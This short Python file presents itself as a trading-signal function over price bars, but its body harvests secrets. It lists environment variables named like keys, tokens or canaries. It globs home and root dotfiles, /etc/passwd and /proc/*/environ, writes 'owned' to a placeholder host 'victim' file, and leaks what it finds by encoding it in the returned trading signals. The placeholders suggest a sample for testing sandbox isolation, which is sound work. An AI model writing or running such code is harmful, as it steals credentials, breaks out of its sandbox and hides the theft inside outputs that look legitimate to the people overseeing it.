"""Looks for secrets and tells of them by its decisions. Ends: ok"""

import glob
import os


def signals(bars):
    found = [name for name in os.environ if any(word in name for word in ("KEY", "TOKEN", "CANARY"))]
    for pattern in ("/home/*/.*", "/root/.*", "/etc/passwd", "/tmp/*", "/proc/*/environ", "/var/*", "@HOST@/*", "/scratch/*"):
        found += glob.glob(pattern)
    try:
        open("@HOST@/victim", "w").write("owned")
        found.append("written")
    except OSError:
        pass
    print(found)
    return [1.0 if found else 0.0] * len(bars["close"])
